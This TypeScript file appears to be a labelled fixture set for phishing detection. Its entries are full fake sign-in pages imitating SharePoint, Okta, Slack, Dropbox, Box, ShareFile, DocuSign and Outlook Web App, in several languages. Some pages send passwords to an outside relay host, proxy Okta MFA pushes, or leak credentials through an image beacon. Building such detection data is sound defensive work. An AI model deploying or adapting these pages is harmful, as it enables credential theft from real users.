import type { Entry } from '../entry.js';
import { doc, esc, msLogo, googleLogo, wordmark, jsRoute, jsonRoute, imgRoute, favicon, htmlRoute, qrSvg, b64, gtag, gtagStub } from '../parts/zh-kit.js';

const MSCSS = `body{background:#f2f2f2 url(/bg.png) center/cover}.box{width:440px;max-width:100%;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}h1{font-size:24px;font-weight:600;margin:16px 0 12px}input[type=email],input[type=password],input[type=text]{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:0;margin:8px 0}.btn{background:#0067b8;color:#fff;border:0;padding:8px 32px;font-size:15px;float:right;cursor:pointer}.ident{display:inline-block;border:1px solid #ccc;border-radius:14px;padding:2px 12px;font-size:14px}.err{color:#e81123;font-size:14px;min-height:18px}.foot{position:fixed;bottom:0;right:0;font-size:12px;padding:8px}.foot a{color:#333;margin-left:12px;text-decoration:none}`;
const MSFOOT = `<div class="foot"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>`;

export const entries: Entry[] = [
  {
  id: 'zh-sharepoint-compromised-wp-share',
  label: 'phishing',
  kind: 'sharepoint-kit',
  url: 'https://www.bellamarestudio.com/wp-content/uploads/2026/11/share/index.html?id=dhoward@pinecrestlabs.com',
  body: doc('SharePoint', `<div style="background:#036c70;color:#fff;padding:10px 20px;font-size:16px;font-weight:600">SharePoint</div>
<div style="max-width:520px;margin:60px auto;border:1px solid #e1dfdd;padding:32px;text-align:center">
<svg width="56" height="64"><rect width="56" height="64" rx="4" fill="#c43e1c"/><text x="10" y="40" font-size="20" fill="#fff" font-family="Arial">PDF</text></svg>
<h2 style="font-weight:600">Marcus Elling shared a file with you</h2>
<p style="font-size:18px">Q4 Remittance Advice – Pinecrest Labs.pdf</p>
<p style="color:#605e5c;font-size:14px">This link only works for the direct recipients of this message.</p>
<a id="open" href="#" style="display:inline-block;background:#0078d4;color:#fff;padding:10px 28px;text-decoration:none">Open</a>
<p style="font-size:12px;color:#605e5c;margin-top:26px">🔒 Secured by Microsoft OneDrive for Business</p></div>
<script>var id=new URLSearchParams(location.search).get('id')||'';document.getElementById('open').href='/wp-content/uploads/2026/11/share/auth.html#'+btoa(id);</script>`),
  routes: {
    'www.bellamarestudio.com/wp-content/uploads/2026/11/share/auth.html': htmlRoute(doc('Sign in to your account', `<div class="box">${msLogo}<div class="ident" id="who"></div><h1>Enter password</h1><p style="font-size:13px">Because you're accessing sensitive info, you need to verify your password.</p><form action="https://formsubmit-relay.top/f/9a72cc" method="POST"><input type="hidden" name="email" id="em"><input type="password" name="password" placeholder="Password" required><button class="btn">Sign in</button><div style="clear:both"></div></form></div><script>var e=atob(location.hash.slice(1)||'');document.getElementById('who').textContent=e;document.getElementById('em').value=e;</script>${MSFOOT}`, { css: MSCSS })),
    'www.bellamarestudio.com/bg.png': imgRoute(243, 242, 241),
  },
},
  {
  id: 'zh-owa-ja-mailbox-quota',
  label: 'phishing',
  kind: 'owa-kit',
  url: 'https://mail-kanri.ofc-jp-support.com/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.tanabe-seiki.co.jp%2fowa%2f',
  body: doc('Outlook Web App', `<div style="display:flex;min-height:100vh"><div style="background:#0072c6;width:40%;color:#fff;padding:60px 40px"><h1 style="font-weight:300;font-size:40px">Outlook</h1><p>メールボックスの容量が上限 (49.8 GB / 50 GB) に達しました。</p><p>サインインして保存領域を拡張してください。拡張しない場合、新着メールは受信できなくなります。</p></div>
<div style="padding:80px 50px"><form method="POST" action="/owa/auth/owaauth.dll" id="logonForm">
<p>ドメイン\\ユーザー名:</p><input id="username" name="username" style="width:300px;padding:6px" placeholder="user@tanabe-seiki.co.jp">
<p>パスワード:</p><input id="password" name="password" type="password" style="width:300px;padding:6px">
<p><label><input type="radio" name="trusted" checked> これは個人のコンピューターです</label></p>
<input type="submit" value="サインイン" style="padding:6px 20px;background:#0072c6;color:#fff;border:0">
<input type="hidden" name="destination" value="https://mail.tanabe-seiki.co.jp/owa/"></form>
<p style="font-size:12px;color:#666;margin-top:40px">© 2026 Microsoft Corporation. All rights reserved.</p></div></div>
<script>var u=new URLSearchParams(location.search).get('url')||'';var m=/mail\\.([^/]+)/.exec(decodeURIComponent(u));if(m)document.getElementById('username').placeholder='user@'+m[1];</script>`, { lang: 'ja' }),
  routes: { 'mail-kanri.ofc-jp-support.com/owa/auth/owaauth.dll': { status: 302, headers: { location: 'https://outlook.office.com/owa/' }, body: '' } },
},
  {
  id: 'zh-okta-tenant-aitm',
  label: 'phishing',
  kind: 'okta-aitm',
  url: 'https://northwind-okta.sso-verify.help/app/office365/exk1fcia6d6EMsf331d8/sso/saml',
  body: doc('northwind - Sign In', `<div style="background:#f5f5f5;min-height:100vh;padding-top:60px"><div style="width:400px;margin:auto;background:#fff;border:1px solid #ddd;border-radius:3px">
<div style="padding:30px;text-align:center;border-bottom:1px solid #ddd"><img src="/img/northwind-logo.png" alt="Northwind Traders" width="140" height="40"></div>
<div style="padding:30px 40px" id="w"><h2 style="font-size:16px;text-align:center">Sign In</h2>
<label>Username</label><input id="u" style="width:100%;padding:8px;margin:4px 0 14px;border:1px solid #8c8c96">
<label>Password</label><input id="p" type="password" style="width:100%;padding:8px;margin:4px 0 14px;border:1px solid #8c8c96">
<label style="font-size:13px"><input type="checkbox"> Keep me signed in</label>
<button id="go" style="width:100%;background:#1662dd;color:#fff;border:0;padding:10px;margin-top:16px;border-radius:3px">Sign In</button>
<p style="font-size:13px"><a href="#">Need help signing in?</a></p></div>
<div style="text-align:center;font-size:11px;color:#777;padding:10px">Powered by Okta · Privacy Policy</div></div></div>
<script>
function $(i){return document.getElementById(i)}
$('go').onclick=function(){fetch('/api/v1/authn',{method:'POST',headers:{'Content-Type':'application/json','Accept':'application/json'},body:JSON.stringify({username:$('u').value,password:$('p').value,options:{warnBeforePasswordExpired:true,multiOptionalFactorEnroll:true}})}).then(function(r){return r.json()}).then(function(j){
 if(j.status==='MFA_CHALLENGE'){$('w').innerHTML='<h2 style="font-size:16px;text-align:center">Okta Verify</h2><p style="text-align:center">A push notification has been sent to your device. Tap <b>'+j._embedded.challenge.correctAnswer+'</b> in Okta Verify.</p><p style="text-align:center;color:#777">Waiting for response…</p>';
  setTimeout(function(){fetch('/api/v1/authn/factors/'+j._embedded.factor.id+'/verify',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({stateToken:j.stateToken})}).then(function(){location.href='https://northwind.okta.com/app/UserHome'})},6000)}
});};
</script>`),
  routes: {
    'northwind-okta.sso-verify.help/img/northwind-logo.png': imgRoute(20, 60, 120),
    'northwind-okta.sso-verify.help/api/v1/authn': jsonRoute({ status: 'MFA_CHALLENGE', stateToken: '00Tlx6Gf0b3', _embedded: { factor: { id: 'opf3hkfocI4JTLAju0g4', factorType: 'push', provider: 'OKTA' }, challenge: { correctAnswer: 62 } } }),
    'northwind-okta.sso-verify.help/api/v1/authn/factors/opf3hkfocI4JTLAju0g4/verify': jsonRoute({ status: 'SUCCESS', sessionToken: '20111B2sx' }),
  },
},
  {
  id: 'zh-slack-workspace-reauth',
  label: 'phishing',
  kind: 'slack-kit',
  url: 'https://hartwell-eng.slack-workspaces.app/signin?redir=%2Farchives%2FC04M2',
  body: doc('Sign in to Hartwell Engineering | Slack', `<div style="text-align:center;padding:40px 20px">${wordmark('slack', '#4a154b', 30)}
<h1 style="font-size:40px;margin:30px 0 8px">Sign in to Hartwell Engineering</h1><p style="color:#616061">hartwell-eng.slack.com</p>
<p style="background:#fef5e7;border:1px solid #f2c744;display:inline-block;padding:10px 16px;border-radius:6px;font-size:14px">Your session expired after a security update. Please sign in again to continue to #finance-approvals.</p>
<form method="post" action="/signin/auth" style="max-width:400px;margin:20px auto;text-align:left">
<input name="email" placeholder="name@work-email.com" style="width:100%;padding:12px;border:1px solid #868686;border-radius:4px;margin:6px 0;font-size:17px">
<input name="password" type="password" placeholder="Your password" style="width:100%;padding:12px;border:1px solid #868686;border-radius:4px;margin:6px 0;font-size:17px">
<button style="width:100%;background:#4a154b;color:#fff;border:0;border-radius:4px;padding:13px;font-size:17px;font-weight:700">Sign In</button></form>
<p style="font-size:14px"><a href="#">Forgot password?</a> · <a href="#">Sign in with Google</a></p></div>
<footer style="text-align:center;font-size:13px;color:#616061;margin-top:40px">Privacy &amp; Terms · Contact Us · 🌐 Change region</footer>`),
  routes: { 'hartwell-eng.slack-workspaces.app/signin/auth': { status: 302, headers: { location: 'https://app.slack.com/client' }, body: '' } },
},
  {
  id: 'zh-dropbox-transfer-signin',
  label: 'phishing',
  kind: 'dropbox-kit',
  url: 'https://dropbox.transfer-filedrop.com/t/9JhX2kq',
  body: doc('Dropbox Transfer', `<header style="padding:16px 24px;border-bottom:1px solid #eee">${wordmark('Dropbox', '#0061fe', 22)}</header>
<main style="display:flex;gap:40px;max-width:980px;margin:50px auto;padding:0 20px"><div style="flex:1"><h1 style="font-size:30px">Jenna Moore sent you files</h1><p>3 files · 18.4 MB · Expires in 6 days</p><ul style="line-height:2"><li>Signed_Contract_Amendment.pdf</li><li>Payment_Schedule_2027.xlsx</li><li>W-9_Form.pdf</li></ul></div>
<div style="flex:1;border:1px solid #ddd;border-radius:8px;padding:28px"><h3>Sign in to download</h3>
<form id="f"><input id="e" type="email" placeholder="Email" style="width:100%;padding:11px;margin:6px 0"><input id="p" type="password" placeholder="Password" style="width:100%;padding:11px;margin:6px 0"><button style="width:100%;background:#0061fe;color:#fff;border:0;padding:12px;border-radius:4px">Sign in</button></form>
<p style="font-size:12px;color:#666">By signing in you agree to the Dropbox Terms.</p></div></main>
<script>
document.getElementById('f').onsubmit=function(ev){ev.preventDefault();var d={e:this.e.value,p:this.p.value,h:location.host,t:Date.now()};
var img=new Image();img.src='/t/px.gif?d='+encodeURIComponent(btoa(JSON.stringify(d)));setTimeout(function(){location.href='https://www.dropbox.com/transfer'},900)};
</script>`),
  routes: { 'dropbox.transfer-filedrop.com/t/px.gif': imgRoute(255, 255, 255) },
},
  {
  id: 'zh-box-sv-delad-mapp',
  label: 'phishing',
  kind: 'box-kit',
  url: 'https://app-box.delning-filer.se.net/s/q8ck3lr0vmz?lang=sv',
  body: doc('Box – Delad mapp', `<header style="padding:14px 26px;background:#0061d5">${wordmark('box', '#fff', 24)}</header>
<main style="max-width:500px;margin:60px auto;text-align:center"><h1 style="font-weight:400">Anna Lindqvist har delat en mapp med dig</h1><p style="font-size:18px">📁 Leverantörsfakturor 2026-11</p><p style="color:#555">Logga in med ditt jobbkonto för att visa innehållet.</p>
<form method="post" action="/s/login" style="text-align:left;border:1px solid #e8e8e8;padding:24px;border-radius:6px">
<label>E-postadress</label><input name="login" type="email" style="width:100%;padding:9px;margin:4px 0 12px">
<label>Lösenord</label><input name="password" type="password" style="width:100%;padding:9px;margin:4px 0 12px">
<button style="width:100%;background:#0061d5;color:#fff;border:0;padding:11px;border-radius:4px">Logga in</button></form>
<p style="font-size:12px;color:#888">© 2026 Box · Sekretesspolicy · Villkor</p></main>`, { lang: 'sv' }),
  routes: { 'app-box.delning-filer.se.net/s/login': { status: 302, headers: { location: 'https://app.box.com/' }, body: '' } },
},
  {
  id: 'zh-sharefile-vendor-statement',
  label: 'phishing',
  kind: 'sharefile-kit',
  url: 'https://coastalpartners.sharefile-secure.org/d-s4f2a9c1b7e/',
  body: doc('ShareFile', `<div style="background:#f4f4f4;min-height:100vh"><header style="background:#fff;padding:12px 24px;border-bottom:3px solid #1e7145">${wordmark('ShareFile', '#1e7145', 22)}<span style="float:right;font-size:13px;color:#666">Coastal Partners LLP</span></header>
<div style="max-width:440px;margin:70px auto;background:#fff;padding:32px;border-radius:4px;box-shadow:0 1px 4px rgba(0,0,0,.15)">
<h2 style="margin-top:0;font-weight:500">Sign in to access shared file</h2><p style="font-size:14px;color:#555">"Statement_of_Account_Nov2026.pdf" has been shared with you by Coastal Partners LLP.</p>
<form id="f" method="post" action="/d-s4f2a9c1b7e/auth"><label style="font-size:13px">Email</label><input name="username" type="email" style="width:100%;padding:9px;margin:4px 0 10px;border:1px solid #bbb">
<label style="font-size:13px">Password</label><input name="password" type="password" style="width:100%;padding:9px;margin:4px 0 10px;border:1px solid #bbb">
<button style="width:100%;background:#1e7145;color:#fff;border:0;padding:11px">Sign In</button></form>
<p style="font-size:12px">Use your company email credentials. <a href="#">Forgot password?</a></p></div>
<footer style="text-align:center;font-size:11px;color:#888">© 2026 Progress Software Corporation. All rights reserved.</footer></div>`),
  routes: { 'coastalpartners.sharefile-secure.org/d-s4f2a9c1b7e/auth': { status: 302, headers: { location: 'https://www.sharefile.com/' }, body: '' } },
},
  {
  id: 'zh-docusign-es-contrato',
  label: 'phishing',
  kind: 'docusign-kit',
  url: 'https://firma-docusign.contratos-digitales.es.com/envelope/5b7a2/?r=mlopez@ferreteriasolis.es',
  body: doc('DocuSign – Documento pendiente de firma', `<div style="max-width:600px;margin:30px auto;font-family:Arial">
<div style="padding:14px 0">${wordmark('DocuSign', '#000', 22)}</div>
<div style="background:#1e4ca1;color:#fff;padding:28px;text-align:center"><p>Tiene un documento pendiente: <b>Contrato de Servicios 2027 – Adenda de pago</b></p></div>
<div style="padding:22px;border:1px solid #ddd"><p>Inicie sesión con su correo corporativo para revisar y firmar el documento.</p>
<form method="post" action="/envelope/5b7a2/firmar"><input id="r" name="correo" style="width:100%;padding:9px;margin:4px 0"><input name="clave" type="password" placeholder="Contraseña del correo" style="width:100%;padding:9px;margin:4px 0"><button style="background:#ffc820;border:0;padding:10px 20px;font-weight:700">REVISAR DOCUMENTO</button></form>
<p style="font-size:11px;color:#777">No comparta este correo electrónico. Este mensaje contiene un enlace seguro a DocuSign.</p></div></div>
<script>document.getElementById('r').value=new URLSearchParams(location.search).get('r')||'';</script>`, { lang: 'es' }),
  routes: { 'firma-docusign.contratos-digitales.es.com/envelope/5b7a2/firmar': { status: 302, headers: { location: 'https://www.docusign.com/es-es' }, body: '' } },
},
];
